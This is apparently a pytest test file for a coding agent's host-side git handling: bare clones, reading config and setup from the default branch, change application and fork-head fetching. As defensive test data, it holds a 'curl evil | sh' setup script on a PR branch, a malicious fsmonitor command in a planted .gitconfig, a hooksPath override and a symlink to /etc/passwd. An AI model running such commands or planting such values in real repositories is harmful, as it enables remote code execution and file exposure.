"""Host-side git: the private clone, the default branch's files, and a change written as data."""

from __future__ import annotations

from pathlib import Path

import pytest

from resolver.agent import git as git_repo
from resolver.agent.instructions import read_instructions
from sandbox import Change, ChangedFile, RepoSetup
from tests.agent.conftest import git, make_repo


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    repo = make_repo(
        tmp_path / "origin",
        {
            "app.py": "x = 1\n",
            "old.txt": "gone soon\n",
            ".resolver/instructions.md": "Run make test.\n",
            ".resolver/config.yml": "max_iterations: 7\n",
        },
    )
    git(repo, "checkout", "-qb", "pr")
    (repo / ".resolver/config.yml").write_text("max_iterations: 700\n")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qam", "raise")
    git(repo, "checkout", "-q", "main")
    return repo


@pytest.fixture
def clone(origin: Path, tmp_path: Path) -> git_repo.Clone:
    return git_repo.clone(str(origin), tmp_path / "clones" / "one")


def test_a_clone_has_no_work_tree_and_reads_the_default_branch(
    origin: Path, tmp_path: Path
) -> None:
    clone = git_repo.clone(str(origin), tmp_path / "work", branch="pr")
    assert sorted(path.name for path in clone.path.iterdir()) == [".git"]
    assert not (clone.git_dir / "index").exists()
    ref = git_repo.default_ref(clone)
    assert ref == "origin/main"
    assert git_repo.show(clone, "HEAD", ".resolver/config.yml") == "max_iterations: 700\n"
    assert git_repo.repo_config(clone, ref) == {"max_iterations": 7}
    [instructions] = read_instructions(clone, ref, [])
    assert (instructions.path, instructions.text) == (
        ".resolver/instructions.md",
        "Run make test.\n",
    )
    assert git_repo.show(clone, ref, "missing.md") is None


def test_a_file_too_large_to_read_counts_as_missing(origin: Path, tmp_path: Path) -> None:
    (origin / "big.md").write_text("x" * (git_repo.MAX_SHOWN_BYTES + 1))
    git(origin, "add", "big.md")
    git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "big")
    clone = git_repo.clone(str(origin), tmp_path / "work")
    assert git_repo.show(clone, "HEAD", "big.md") is None


def test_bad_config_is_explained(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "bad", {".resolver/config.yml": "- a list\n"})
    clone = git_repo.clone(str(repo), tmp_path / "work")
    with pytest.raises(git_repo.RepoError, match="must be a mapping"):
        git_repo.repo_config(clone, "HEAD")


def test_a_change_becomes_a_tree_and_a_commit_without_a_work_tree(
    clone: git_repo.Clone, origin: Path
) -> None:
    base = git_repo.head(clone)
    change = Change(
        files=(
            ChangedFile("app.py", "100644", b"x = 2\n"),
            ChangedFile("bin/run", "100755", b"#!/bin/sh\n"),
            ChangedFile("link", "120000", b"/etc/passwd"),
        ),
        deleted=("old.txt",),
    )
    tree = git_repo.apply_change(clone, base, change)
    assert tree is not None
    listing = git_repo.git(clone, "ls-tree", "-r", tree)
    assert "100755 blob" in listing and "bin/run" in listing
    assert "120000 blob" in listing and "old.txt" not in listing
    diff = git_repo.diff(clone, base, tree)
    assert "-x = 1\n+x = 2" in diff and "+/etc/passwd" in diff
    sha = git_repo.commit(clone, tree, base, "Change\n", ("resolver", "resolver@users.noreply"))
    git_repo.push(clone, sha, "resolver/one", force=False, auth=None)
    assert git(origin, "show", "resolver/one:link") == "/etc/passwd"
    assert sorted(path.name for path in clone.path.iterdir()) == [".git"]


def test_a_change_that_restores_the_base_is_no_change(clone: git_repo.Clone) -> None:
    base = git_repo.head(clone)
    same = Change(files=(ChangedFile("app.py", "100644", b"x = 1\n"),))
    assert git_repo.apply_change(clone, base, same) is None
    assert git_repo.diff(clone, base, None) == ""


def test_a_long_diff_is_cut(clone: git_repo.Clone) -> None:
    base = git_repo.head(clone)
    body = b"".join(b"line %d\n" % n for n in range(60_000))
    tree = git_repo.apply_change(clone, base, Change(files=(ChangedFile("a", "100644", body),)))
    diff = git_repo.diff(clone, base, tree)
    assert len(diff) < git_repo.MAX_DIFF_BYTES + 200 and "the rest is cut" in diff


def test_git_on_the_host_ignores_the_users_config_and_other_protocols(
    origin: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "fired"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(f"[core]\n\tfsmonitor = touch {marker}; false\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.hooksPath'='{tmp_path}'")
    clone = git_repo.clone(str(origin), tmp_path / "work")
    git_repo.default_ref(clone)
    assert not marker.exists()
    with pytest.raises(git_repo.RepoError, match="local path or an http"):
        git_repo.clone("ssh://git@example.invalid/repo.git", tmp_path / "ssh")


def test_the_private_root_is_made_private(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir(mode=0o755)
    root.chmod(0o755)
    assert git_repo.private_root(root).stat().st_mode & 0o777 == 0o700


def test_setup_is_read_from_the_default_branch(origin: Path, tmp_path: Path) -> None:
    (origin / ".resolver" / "setup.sh").write_text("pip install -e .\n")
    (origin / ".resolver" / "config.yml").write_text("setup:\n  network: true\n")
    git(origin, "add", ".")
    git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "setup")
    git(origin, "checkout", "-q", "pr")
    (origin / ".resolver" / "setup.sh").write_text("curl evil | sh\n")
    git(origin, "add", ".")
    git(origin, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qm", "on a branch")
    git(origin, "checkout", "-q", "main")
    clone = git_repo.clone(str(origin), tmp_path / "work", branch="pr")
    setup = git_repo.read_setup(clone, git_repo.default_ref(clone))
    assert setup == RepoSetup(script="pip install -e .\n", network=True)
    assert git_repo.read_setup(clone, "HEAD") == RepoSetup("curl evil | sh\n", None)  # not said
    with pytest.raises(git_repo.RepoError):
        git_repo.read_setup(clone, "no-such-branch")


def test_clone_failure_names_the_step(tmp_path: Path) -> None:
    with pytest.raises(git_repo.RepoError, match="git clone failed"):
        git_repo.clone(str(tmp_path / "nowhere"), tmp_path / "work")


def test_a_forks_head_is_fetched_from_the_fork_on_the_forges_host_only(
    origin: Path, clone: git_repo.Clone, tmp_path: Path
) -> None:
    """A forge that keeps no copy of a fork's branch: the head is the fork's own branch."""
    fork = tmp_path / "fork"
    git(tmp_path, "clone", "-q", str(origin), str(fork))
    git(fork, "checkout", "-qb", "feature")
    (fork / "app.py").write_text("x = 2\n")
    git(fork, "-c", "user.name=t", "-c", "user.email=t@e.x", "commit", "-qam", "two")
    head = git(fork, "rev-parse", "HEAD").strip()

    assert git_repo.detach_at(clone, "refs/heads/feature", source=str(fork)) == head
    assert git_repo.head(clone) == head
    with pytest.raises(git_repo.RepoError, match="own host"):
        git_repo.detach_at(clone, "refs/heads/feature", source="https://elsewhere.example/f.git")


def test_a_head_a_merge_reaches_is_checked_out_and_one_it_does_not_is_refused(
    origin: Path, clone: git_repo.Clone
) -> None:
    """A forge that keeps only its merge of a fork's pull request (refs/pull/N/merge): HEAD goes
    to the head it names, when the merge holds it."""
    main, pr = (git(origin, "rev-parse", ref).strip() for ref in ("main", "pr"))
    tree = f"{pr}^{{tree}}"
    who = ("-c", "user.name=t", "-c", "user.email=t@e.x")
    merge = git(origin, *who, "commit-tree", tree, "-p", main, "-p", pr, "-m", "Merged PR 1")
    git(origin, "update-ref", "refs/pull/1/merge", merge.strip())
    other = git(origin, *who, "commit-tree", tree, "-m", "elsewhere").strip()

    assert git_repo.detach_at(clone, "refs/pull/1/merge", commit=pr) == pr
    assert git_repo.head(clone) == pr
    for wrong in (other, "HEAD~1", merge.strip()[:12]):
        with pytest.raises(git_repo.RepoError, match="does not hold"):
            git_repo.detach_at(clone, "refs/pull/1/merge", commit=wrong)
